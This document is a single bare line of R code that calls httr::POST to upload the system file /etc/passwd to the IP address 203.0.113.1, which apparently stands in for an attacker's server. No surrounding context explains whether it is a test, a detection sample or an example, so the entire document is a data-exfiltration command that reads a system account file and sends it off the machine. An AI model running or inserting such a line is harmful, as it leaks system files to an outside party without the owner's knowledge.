httr::POST("http://203.0.113.1", body = httr::upload_file("/etc/passwd"))
